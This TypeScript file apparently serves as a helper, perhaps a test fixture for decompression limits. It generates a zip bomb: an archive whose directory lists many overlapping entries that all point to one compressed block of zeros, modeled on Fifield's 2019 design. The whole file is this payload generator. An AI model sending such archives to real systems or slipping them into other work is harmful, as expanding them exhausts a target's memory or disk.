import { deflateRawSync } from 'node:zlib'

/**
 * A zip whose directory names the same packed zeros again and again, padded to the size of the bombs of David Fifield ("A
 * better zip bomb", 2019).
 *
 * @param count - of entries
 * @param zeros - bytes that each of them unpacks to
 */
export function makeBomb(count: number, zeros: number): Buffer {
  const packed = deflateRawSync(Buffer.alloc(zeros), { level: 9 })
  const name = (index: number) => Buffer.from(`${index}`.padStart(40, '0'))
  const header = Buffer.alloc(30)
  header.writeUInt32LE(0x04034b50, 0)
  sizes(header, 4, packed.length, zeros)
  header.writeUInt16LE(40, 26)
  const start = header.length + 40 + packed.length
  const records = Array.from({ length: count }, (_, index) => {
    const record = Buffer.alloc(46)
    record.writeUInt32LE(0x02014b50, 0)
    sizes(record, 6, packed.length, zeros)
    record.writeUInt16LE(40, 28)
    return Buffer.concat([record, name(index)])
  })
  const directory = Buffer.concat(records)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(count, 8)
  end.writeUInt16LE(count, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(start, 16)
  return Buffer.concat([header, name(0), packed, directory, end])
}

function sizes(header: Buffer, at: number, packed: number, unpacked: number): void {
  header.writeUInt16LE(20, at)
  header.writeUInt16LE(8, at + 4)
  header.writeUInt32LE(packed, at + 14)
  header.writeUInt32LE(unpacked, at + 18)
}
